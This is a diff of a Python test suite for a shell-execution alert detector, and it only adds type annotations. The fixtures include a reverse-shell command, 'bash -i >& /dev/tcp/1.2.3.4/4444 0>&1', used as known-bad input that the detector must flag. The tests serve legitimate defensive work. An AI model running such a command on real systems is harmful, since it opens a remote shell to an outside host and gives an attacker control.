@@ -196,7 +196,7 @@ def shell_alerts(stdout: bytes) -> list[dict[str, Any]]:
 
 
 def test_shell_alerts_are_grouped_per_period_unless_disabled() -> None:
-    recon = {"process__args": ["/bin/bash", "-c", "id"], "process__command_line": "/bin/bash -c id"}
+    recon: dict[str, Any] = {"process__args": ["/bin/bash", "-c", "id"], "process__command_line": "/bin/bash -c id"}
     repeats = [exec_doc(1_700_000_000_000 + i * 60_000, pid=900 + i, **recon) for i in range(3)]
     after_an_hour = exec_doc(1_700_003_700_000, pid=999, **recon)
     grouped = shell_alerts(detect(lines(*repeats, after_an_hour)).stdout)
@@ -208,7 +208,7 @@ def test_shell_alerts_are_grouped_per_period_unless_disabled() -> None:
 
 
 def test_known_bad_is_never_grouped() -> None:
-    payload = {"process__args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]}
+    payload: dict[str, Any] = {"process__args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]}
     docs = [exec_doc(1_700_000_000_000 + i, pid=900 + i, **payload) for i in range(3)]
     alerts = shell_alerts(detect(lines(*docs)).stdout)
     assert [a["detection"]["case"] for a in alerts] == ["java_shell_execution_known_bad"] * 3
